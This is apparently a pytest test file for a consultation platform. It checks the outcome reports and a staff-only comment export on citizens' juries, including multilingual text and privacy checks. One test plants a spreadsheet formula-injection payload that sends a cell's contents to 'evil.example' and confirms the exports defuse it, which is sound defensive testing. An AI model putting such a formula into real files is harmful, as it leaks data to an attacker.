"""The outcome report and the staff export through the real app, checked
against a consultation built by hand: comments with known stances,
languages, days, places and states, answers with known decisions and dates.
Every number of the JSON and the CSV is compared with what the data says."""

import csv
import io
import json
import random
import re
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from samples import DRAFT_TEXT, DRAFT_TEXT_EN

from consult.consultations.parsing import parse_text
from consult.consultations.services import ConsultationService
from consult.feedback.comments import Comment
from consult.responses.models import Response, Version
from consult.responses.services import ResponseService

SLUG = "citizens-juries"
EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)


def utc(day, hour, month=2):
    return datetime(2026, month, day, hour, 0, tzinfo=UTC)


# Version 2 of the draft: article 3 enlarged, article 4 added.
V2_RU = (
    DRAFT_TEXT.replace("от 15 до 25", "от 15 до 30")
    + """
Статья 4. Вознаграждение

Членам жюри выплачивается вознаграждение за каждый день работы.
"""
)
V2_EN = (
    DRAFT_TEXT_EN.replace("from 15 to 25", "from 15 to 30")
    + """
Article 4. Remuneration

Jurors are paid for every day they serve.
"""
)

PEOPLE = {
    "alice": ("alice@example.kz", "Alice", "Adams"),
    "bob": ("bob@example.kz", "Bob", "Brown"),
    "cora": ("cora@example.kz", "Cora", "Clark"),
    "dana": ("dana@example.kz", "Dana", "Dixon"),
}
# name: (place, author, language, stance, created (UTC), state, parent)
# Stages (conftest, "closed"): Green Paper 31 Jan - 10 Feb, White Paper
# 20 Feb - 1 Mar (09:00 UTC); answers due 15 days after: 25 Feb and 16 Mar.
COMMENTS = {
    "c1": ("question", "alice", "en", "for", utc(1, 10), "published", None),
    "c2": ("question", "bob", "ru", "against", utc(1, 20), "published", None),  # 2 Feb in Almaty
    "c11": ("question", "dana", "ru", "neutral", utc(5, 6), "published", None),
    "c3": ("1", "alice", "ru", "against", utc(21, 3), "published", None),
    "c4": ("1", "cora", "kk", "neutral", utc(21, 12), "published", None),
    "c5": ("1", "bob", "en", "for", utc(22, 5), "published", "c4"),
    "c6": ("2/1", "dana", "ru", "for", utc(22, 6), "published", None),
    "c7": ("2", "dana", "en", "against", utc(23, 6), "hidden", None),
    "c8": ("3", "cora", "ru", "for", utc(23, 7), "withdrawn", None),
    "c9": ("3", "bob", "en", "neutral", utc(23, 8), "pending", None),
    "c10": ("3", "alice", "en", "against", utc(24, 20), "published", None),  # 25 Feb in Almaty
}
TEXTS = {
    "en": "Fifteen jurors are too few for a large region.",
    "ru": "Пятнадцати присяжных мало для большой области.",
    "kk": "Он бес алқабилер үлкен облыс үшін аз, өңірлер көбірек шақыруы керек.",
}
ACCEPTED = "The jury will be enlarged to thirty citizens in version 2."
PARTLY = "Regions may convene larger juries; the minimum stays fifteen citizens."
# comment: (disposition, reason, answered at (UTC), role)
ANSWERS = {
    "c1": ("accepted", ACCEPTED, utc(20, 9), "editor"),
    "c2": (
        "rejected",
        "A lottery with quotas is kept: it is the core of the bill.",
        utc(27, 9),
        "moderator",
    ),  # after 25 Feb: late
    "c3": ("partly", PARTLY, utc(1, 9, month=3), "editor"),
    "c4": ("partly", PARTLY, utc(1, 9, month=3), "editor"),
    "c5": (
        "out_of_scope",
        "Payment of jurors is set by a separate government decree.",
        utc(1, 10, month=3),
        "moderator",
    ),
    "c7": (
        "rejected",
        "Hidden comments are answered too, but not reported publicly.",
        utc(1, 11, month=3),
        "moderator",
    ),
}

EXPECTED_PARTICIPATION = {
    "comments": 8,
    "top_level": 7,
    "replies": 1,
    "participants": 4,
    "by_stage": {"green": 3, "white": 5},
    "by_place": [
        {"place": "question-1", "comments": 3},
        {"place": "article-1", "comments": 3},
        {"place": "article-2", "comments": 1},
        {"place": "article-3", "comments": 1},
        {"place": "article-4", "comments": 0},
    ],
    "by_language": {"kk": 1, "ru": 4, "en": 3},
    "by_stance": {"for": 3, "against": 3, "neutral": 2},
    "by_day": [
        {"day": "2026-02-01", "comments": 1},
        {"day": "2026-02-02", "comments": 1},
        {"day": "2026-02-05", "comments": 1},
        {"day": "2026-02-21", "comments": 2},
        {"day": "2026-02-22", "comments": 2},
        {"day": "2026-02-25", "comments": 1},
    ],
    "moderation": {"pending": 1, "hidden": 1, "withdrawn": 1},
    # No campaign: each of the 8 published comments is unique.
    "campaigns": {
        "campaigns": 0,
        "campaign_comments": 0,
        "unique_comments": 8,
        "sizes": [],
        "min_size": 10,
    },
    # Every author's address is confirmed; nobody is verified further.
    "by_verification": {
        name: {"comments": 8 if name == "email" else 0, "supports": 0}
        for name in ("offline", "unverified", "email", "census", "staff")
    },
}
NO_ANSWERS = {"accepted": 0, "partly": 0, "rejected": 0, "noted": 0, "out_of_scope": 0}
EXPECTED_DISPOSITIONS = {
    "totals": dict(NO_ANSWERS, accepted=1, rejected=1, partly=2, out_of_scope=1),
    "by_place": {
        "question-1": dict(NO_ANSWERS, accepted=1, rejected=1),
        "article-1": dict(NO_ANSWERS, partly=2, out_of_scope=1),
        "article-2": NO_ANSWERS,
        "article-3": NO_ANSWERS,
        "article-4": NO_ANSWERS,
    },
}
ZERO = {"due": 0, "on_time": 0, "late": 0, "unanswered": 0, "overdue": 0}
EXPECTED_TIMELINESS = {
    "total": {"due": 7, "on_time": 3, "late": 1, "unanswered": 3, "overdue": 1},
    "by_place": {
        "question-1": {"due": 3, "on_time": 1, "late": 1, "unanswered": 1, "overdue": 1},
        "article-1": dict(ZERO, due=2, on_time=2),
        "article-2": dict(ZERO, due=1, unanswered=1),
        "article-3": dict(ZERO, due=1, unanswered=1),
        "article-4": ZERO,
    },
}


@pytest.fixture
def built(database, clock, make_user, make_consultation):
    """The hand-built consultation: both stages closed, two draft versions,
    the comments of COMMENTS and the answers of ANSWERS (c1's revised
    later). Returns {name: comment id}."""
    make_consultation(SLUG, stage_open="closed")
    users = {name: make_user(*details) for name, details in PEOPLE.items()}
    make_user("editor@example.kz", "Erlan", "Editov")
    ids = {}
    with database() as root:
        consultation = root["consultations"][SLUG]
        principals = root["principals"]
        editor = principals.find_by_email("editor@example.kz")
        consultation.grant_local_role(editor.id, "editor")
        ConsultationService(root["consultations"], clock).publish_version(
            consultation,
            {"ru": parse_text(V2_RU), "en": parse_text(V2_EN)},
            {"en": "Article 3 enlarged; article 4 added."},
            editor,
        )
        draft = consultation.current_draft()
        question = consultation.stages["green"].questions[0]
        rng = random.Random(4)
        for name, (place, author, language, stance, created, state, parent) in COMMENTS.items():
            if place == "question":
                target = question.target
            elif "/" in place:
                number, paragraph = place.split("/")
                article = draft[number]
                target = article.paragraph_target(article.paragraphs[int(paragraph) - 1])
            else:
                target = draft[place].target
            person = principals.get(users[author])
            comment = Comment(
                target,
                person.id,
                person.public_name,
                TEXTS[language],
                stance,
                created,
                parent=consultation.comments.get(ids.get(parent)),
            )
            comment.language = language
            comment.stage = "green" if place == "question" else "white"
            comment.draft_version = None if place == "question" else 2
            comment.state = state
            ids[name] = consultation.comments.add(comment, rng=rng).id
        register = consultation.responses
        for name, (disposition, reason, when, role) in ANSWERS.items():
            comment = consultation.comments.get(ids[name])
            register.add(
                Response(
                    comment.id,
                    comment.target,
                    Version(disposition, reason, None, "en", editor.id, role, when),
                )
            )
        # A revision after the deadline does not make an answer given on time late.
        register.revise(
            register.get(ids["c1"]),
            Version(
                "accepted",
                ACCEPTED + " Quotas stay.",
                None,
                "en",
                editor.id,
                "editor",
                utc(1, 12, month=3),
            ),
            editor.id,
            "editor",
            "Added what happens to the quotas.",
        )
    return ids


def by_place(rows):
    return {row["place"]: row for row in rows}


def test_json_numbers(app, built):
    response = app.get(f"/consultations/{SLUG}/report.json")
    assert response.content_type == "application/json"
    assert f'filename="{SLUG}-report.json"' in response.headers["Content-Disposition"]
    report = json.loads(response.body)
    assert report["counted_states"] == ["published"]
    about = report["consultation"]
    assert about["state"] == "closed" and about["provisional"] is True
    assert about["outcome"] == {} and about["outcome_published_at"] is None
    assert report["generated_at"] == NOW.isoformat()
    assert [p["place"] for p in report["places"]] == [
        "question-1",
        "article-1",
        "article-2",
        "article-3",
        "article-4",
    ]

    assert report["participation"] == EXPECTED_PARTICIPATION

    dispositions = report["dispositions"]
    assert dispositions["totals"] == EXPECTED_DISPOSITIONS["totals"]
    rows = by_place(dispositions["by_place"])
    assert {place: row["counts"] for place, row in rows.items()} == EXPECTED_DISPOSITIONS[
        "by_place"
    ]
    assert {place: row["answers"] for place, row in rows.items()} == {
        "question-1": 2,
        "article-1": 3,
        "article-2": 0,
        "article-3": 0,
        "article-4": 0,
    }
    # One reason given to two comments is listed once, with both.
    [partly, scope] = rows["article-1"]["reasons"]
    assert partly["disposition"] == "partly" and partly["reason"] == PARTLY
    assert sorted(partly["comments"]) == sorted([built["c3"], built["c4"]])
    assert partly["role"] == "editor" and partly["answered_at"] == "2026-03-01T09:00:00+00:00"
    assert scope["comments"] == [built["c5"]] and scope["role"] == "moderator"
    accepted = rows["question-1"]["reasons"][0]
    assert accepted["revised"] is True and accepted["reason"].endswith("Quotas stay.")
    # The answer to the hidden comment is not in the public report.
    assert all(
        built["c7"] not in reason["comments"] for row in rows.values() for reason in row["reasons"]
    )

    timeliness = report["timeliness"]
    assert timeliness["answer_days"] == 15
    assert timeliness["deadlines"] == {
        "green": "2026-02-25T09:00:00+00:00",
        "white": "2026-03-16T09:00:00+00:00",
    }
    assert timeliness["total"] == EXPECTED_TIMELINESS["total"]
    assert {
        place: {k: v for k, v in row.items() if k != "place"}
        for place, row in by_place(timeliness["by_place"]).items()
    } == EXPECTED_TIMELINESS["by_place"]

    [first, second] = report["changes"]
    assert first == {
        "version": 1,
        "previous_version": None,
        "published_at": NOW.isoformat(),
        "summary": {},
        "articles": 3,
    }
    assert second == {
        "version": 2,
        "previous_version": 1,
        "published_at": NOW.isoformat(),
        "summary": {"en": "Article 3 enlarged; article 4 added."},
        "articles": 4,
        "added": ["4"],
        "removed": [],
        "renumbered": [],
        "changed": ["3"],
        "unchanged": 2,
    }
    assert report["juries"] is None


def test_json_agrees_with_the_response_register(app, database, built):
    report = app.get(f"/consultations/{SLUG}/report.json").json
    with database() as root:
        summary = ResponseService(None, {}).summary(root["consultations"][SLUG], NOW)
    total = report["timeliness"]["total"]
    assert summary["total"] == {
        "comments": total["due"],
        "answered": total["on_time"] + total["late"],
        "unanswered": total["unanswered"],
        "overdue": total["overdue"],
    }


def csv_cells(body):
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_numbers(app, built):
    response = app.get(f"/consultations/{SLUG}/report.csv")
    assert response.content_type == "text/csv"
    [header, *rows] = csv_cells(response.body)
    assert header == ["section", "item", "measure", "value"]
    values = {(section, item, measure): value for section, item, measure, value in rows}
    assert len(values) == len(rows), "one row per number"

    expected = {
        ("consultation", "state", ""): "closed",
        ("consultation", "provisional", ""): "yes",
        ("consultation", "counted_states", ""): "published",
    }
    expected.update(expected_participation_rows())
    expected.update(expected_answer_rows())
    expected.update(
        {
            ("changes", "version-1", "articles"): 3,
            ("changes", "version-2", "articles"): 4,
            ("changes", "version-2", "previous_version"): 1,
            ("changes", "version-2", "added"): "4",
            ("changes", "version-2", "removed"): "",
            ("changes", "version-2", "changed"): "3",
            ("changes", "version-2", "renumbered"): "",
            ("changes", "version-2", "unchanged"): 2,
        }
    )
    audit = app.get(f"/consultations/{SLUG}/report.json").json["audit"]
    expected.update(
        {("audit", "head", "entries"): audit["entries"], ("audit", "head", "sha256"): audit["head"]}
    )
    for key, value in expected.items():
        assert values.get(key) == str(value), key
    # Every number in the file is one of those checked.
    numeric = {key for key, value in values.items() if value.isdigit()}
    assert numeric <= set(expected)


def expected_participation_rows():
    """{(section, item, measure): value} the CSV holds for EXPECTED_PARTICIPATION."""
    expected = {}
    for measure in ("comments", "top_level", "replies", "participants"):
        expected[("participation", "total", measure)] = EXPECTED_PARTICIPATION[measure]
    for section, key in (
        ("stage", "by_stage"),
        ("language", "by_language"),
        ("stance", "by_stance"),
        ("moderation", "moderation"),
    ):
        for item, value in EXPECTED_PARTICIPATION[key].items():
            expected[(section, item, "comments")] = value
    for row in EXPECTED_PARTICIPATION["by_place"]:
        expected[("place", row["place"], "comments")] = row["comments"]
    for row in EXPECTED_PARTICIPATION["by_day"]:
        expected[("day", row["day"], "comments")] = row["comments"]
    for measure in ("campaigns", "campaign_comments", "unique_comments"):
        expected[("campaigns", "total", measure)] = EXPECTED_PARTICIPATION["campaigns"][measure]
    for category, counts in EXPECTED_PARTICIPATION["by_verification"].items():
        for measure, value in counts.items():
            expected[("verification", category, measure)] = value
    return expected


def expected_answer_rows():
    """{(section, item, measure): value} the CSV holds for EXPECTED_DISPOSITIONS
    and EXPECTED_TIMELINESS."""
    expected = {}
    for disposition, value in EXPECTED_DISPOSITIONS["totals"].items():
        expected[("dispositions", "total", disposition)] = value
    for place, counts in EXPECTED_DISPOSITIONS["by_place"].items():
        for disposition, value in counts.items():
            expected[("dispositions", place, disposition)] = value
    expected[("timeliness", "total", "answer_days")] = 15
    for measure, value in EXPECTED_TIMELINESS["total"].items():
        expected[("timeliness", "total", measure)] = value
    for place, counts in EXPECTED_TIMELINESS["by_place"].items():
        for measure, value in counts.items():
            expected[("timeliness", place, measure)] = value
    return expected


def said(response):
    return " ".join(response.html.get_text(" ").split())


def test_html_page(app, built):
    page = app.get(f"/consultations/{SLUG}/report")
    text = said(page)
    assert "Outcome report" in text and "Provisional report." in text
    assert page.html.find("h1").get_text(strip=True) == "Outcome report"
    for table in page.html.find_all("table"):
        assert table.find("caption") is not None
        assert all(th.get("scope") in ("col", "row") for th in table.find_all("th"))
    participation = page.html.find("caption", string="Participation in total").parent
    assert [td.get_text() for td in participation.find_all("td")] == ["8", "7", "1", "4"]
    assert "1 February 2026" in text and "2 February 2026" in text
    reasons = [" ".join(li.get_text().split()) for li in page.html.select(".report-reasons li")]
    assert reasons[2] == (
        "Partly accepted — the Editor, 1 March 2026, 14:00; comments answered: 2 " + PARTLY
    )
    assert "Articles added 4" in text and "Articles changed 3" in text
    assert not EMAIL.findall(page.text)
    assert "Erlan" not in text and "Adams" not in text
    hrefs = {a["href"] for a in page.html.select(".report-downloads a")}
    assert {
        f"http://localhost/consultations/{SLUG}/report.{kind}" for kind in ("csv", "json", "pdf")
    } == hrefs
    # The consultation page links to it.
    link = app.get(f"/consultations/{SLUG}").html.select_one(".report-link a")
    assert link["href"].endswith(f"/consultations/{SLUG}/report")


def test_not_before_the_stages_close(app, make_consultation):
    make_consultation("open-one", stage_open="white")
    for name in ("report", "report.json", "report.csv", "report.pdf"):
        app.get(f"/consultations/open-one/{name}", status=404)
    page = app.get("/consultations/open-one")
    assert page.html.select_one(".report-link") is None


def test_final_once_the_outcome_is_published(app, database, clock, built):
    with database() as root:
        ConsultationService(root["consultations"], clock).publish_outcome(
            root["consultations"][SLUG], {"en": "Juries will be convened from 2027."}
        )
    report = app.get(f"/consultations/{SLUG}/report.json").json
    assert report["consultation"]["provisional"] is False
    assert report["consultation"]["state"] == "outcome"
    assert report["consultation"]["outcome"] == {"en": "Juries will be convened from 2027."}
    page = app.get(f"/consultations/{SLUG}/report")
    assert "Provisional" not in said(page) and "Juries will be convened from 2027." in said(page)


def test_pdf(app, built, monkeypatch):
    from bs4 import BeautifulSoup

    from consult.reports import views
    from consult.reports.pdf import render_document

    printed = []

    def render_pdf(html, base_url):
        printed.append(html)
        return real(html, base_url)

    real = views.render_pdf
    monkeypatch.setattr(views, "render_pdf", render_pdf)
    response = app.get(f"/consultations/{SLUG}/report.pdf")
    assert response.content_type == "application/pdf"
    assert f'filename="{SLUG}-report.pdf"' in response.headers["Content-Disposition"]
    assert response.body.startswith(b"%PDF-") and b"%%EOF" in response.body[-32:]
    # No PDF text extractor is installed: check what WeasyPrint laid out
    # (its pages) and the numbers in the page it printed.
    [html] = printed
    assert len(render_document(html, "http://localhost/").pages) >= 2
    soup = BeautifulSoup(html, "html.parser")
    assert soup.title.get_text() == "Outcome report: Introducing citizens' juries"
    assert soup.select_one(".report-downloads") is None
    participation = soup.find("caption", string="Participation in total").parent
    assert [td.get_text() for td in participation.find_all("td")] == ["8", "7", "1", "4"]
    timeliness = soup.find("caption", string=re.compile("^Answers to published")).parent
    assert [td.get_text() for td in timeliness.find("tfoot").find_all("td")] == [
        "7",
        "3",
        "1",
        "3",
        "1",
    ]


# -- the staff export ---------------------------------------------------------------


@pytest.fixture
def staff(built, browser):
    return browser("editor@example.kz")


EXPORTS = (
    f"/consultations/{SLUG}/export-comments.csv",
    f"/consultations/{SLUG}/export-comments.xlsx",
)


def test_export_is_for_staff_only(built, browser, make_user):
    for url in EXPORTS:
        response = browser().get(url, status=303)
        assert "/login" in response.headers["Location"]
        browser("alice@example.kz").get(url, status=403)
    # The consultation's editor (a local role), a moderator and an
    # administrator of the site may.
    make_user("mod@example.kz", roles=("moderator",))
    make_user("admin@example.kz", roles=("administrator",))
    for email in ("editor@example.kz", "mod@example.kz", "admin@example.kz"):
        app = browser(email)
        for url in EXPORTS:
            assert app.get(url).status_int == 200


def test_export_csv(staff, built, database):
    response = staff.get(EXPORTS[0])
    assert response.content_type == "text/csv" and response.charset == "utf-8"
    assert f'filename="{SLUG}-comments.csv"' in response.headers["Content-Disposition"]
    [header, *rows] = csv_cells(response.body)
    assert header == [
        "comment_id",
        "author_pseudonym",
        "author_name",
        "created",
        "stage",
        "target",
        "target_label",
        "article",
        "paragraph",
        "draft_version",
        "parent_id",
        "stance",
        "language",
        "state",
        "supports",
        "text",
        "disposition",
        "answer",
        "answer_translation",
        "answered_at",
        "answered_by_role",
        "revised",
    ]
    records = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert set(records) == set(built.values()), "every comment, whatever its state"
    # Place by place, each thread in time order with replies after their comment.
    order = [int(row[0]) for row in rows]
    assert order[:3] == [built["c1"], built["c2"], built["c11"]]
    assert order.index(built["c5"]) == order.index(built["c4"]) + 1

    c1 = records[built["c1"]]
    assert re.fullmatch(r"p-[0-9a-f]{16}", c1["author_pseudonym"])
    assert c1["author_name"] == "Alice A."
    assert c1["created"] == "2026-02-01T15:00:00+05:00"
    assert (c1["stage"], c1["target_label"], c1["stance"], c1["state"]) == (
        "green",
        "Question 1: Should jurors be drawn by lot?",
        "for",
        "published",
    )
    assert (c1["disposition"], c1["answered_at"], c1["answered_by_role"], c1["revised"]) == (
        "accepted",
        "2026-02-20T14:00:00+05:00",
        "editor",
        "yes",
    )
    assert c1["answer"].endswith("Quotas stay.")
    # One pseudonym per person, different for different people.
    alice = {records[built[name]]["author_pseudonym"] for name in ("c1", "c3", "c10")}
    assert len(alice) == 1 and records[built["c2"]]["author_pseudonym"] not in alice

    c6 = records[built["c6"]]
    assert (c6["target_label"], c6["article"], c6["paragraph"], c6["draft_version"]) == (
        "Article 2, paragraph 1",
        "2",
        "1",
        "2",
    )
    assert c6["text"] == TEXTS["ru"], "Cyrillic intact"
    assert records[built["c4"]]["text"] == TEXTS["kk"]
    assert (c6["disposition"], c6["answer"], c6["revised"]) == ("", "", "")
    c5 = records[built["c5"]]
    assert c5["parent_id"] == str(built["c4"]) and c5["disposition"] == "out_of_scope"
    assert records[built["c9"]]["state"] == "pending"
    assert records[built["c7"]]["state"] == "hidden"

    # Personal data never: no e-mail address, no surname, no official's name.
    text = response.body.decode("utf-8-sig")
    assert not EMAIL.findall(text) and "@" not in text
    assert "Adams" not in text and "Erlan" not in text and "Editov" not in text


def post_formula(database, built):
    with database() as root:
        consultation = root["consultations"][SLUG]
        parent = consultation.comments.get(built["c1"])
        comment = Comment(
            parent.target,
            parent.author,
            parent.author_name,
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "for",
            utc(2, 10),
            parent=parent,
        )
        comment.stage = "green"
        return consultation.comments.add(comment, rng=random.Random(9)).id


def test_export_defuses_formulas(staff, built, database):
    formula_id = post_formula(database, built)
    rows = csv_cells(staff.get(EXPORTS[0]).body)
    [row] = [row for row in rows if row[0] == str(formula_id)]
    assert row[15] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'

    sheet = load_workbook(io.BytesIO(staff.get(EXPORTS[1]).body)).active
    [cell] = [r[15] for r in sheet.iter_rows(min_row=2) if r[0].value == str(formula_id)]
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")


def test_export_xlsx(staff, built):
    response = staff.get(EXPORTS[1])
    assert response.content_type == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.body)).active
    [header, *rows] = [[cell.value for cell in row] for row in sheet.iter_rows()]
    csv_header, *csv_rows = csv_cells(staff.get(EXPORTS[0]).body)
    assert header == csv_header
    assert len(rows) == len(csv_rows) == len(built)
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    c6 = by_id[str(built["c6"])]
    assert c6["text"] == TEXTS["ru"] and c6["draft_version"] == 2 and c6["supports"] == 0
    assert by_id[str(built["c1"])]["revised"] == "yes"
    cells = [str(value) for row in rows for value in row if value is not None]
    assert not any(EMAIL.search(value) for value in cells)
    assert not any("@" in value for value in cells)


def test_report_in_kazakh_and_russian(app, built):
    page = app.get(f"/consultations/{SLUG}/report", headers={"Accept-Language": "kk"})
    assert page.html.find("h1").get_text(strip=True) == "Қорытынды есеп"
    assert "Жарияланған пікірлер" in said(page)
    page = app.get(f"/consultations/{SLUG}/report", headers={"Accept-Language": "ru"})
    assert page.html.find("h1").get_text(strip=True) == "Итоговый отчёт"
    assert "1 февраля 2026" in said(page)
    pdf = app.get(f"/consultations/{SLUG}/report.pdf", headers={"Accept-Language": "kk"})
    assert pdf.body.startswith(b"%PDF-")
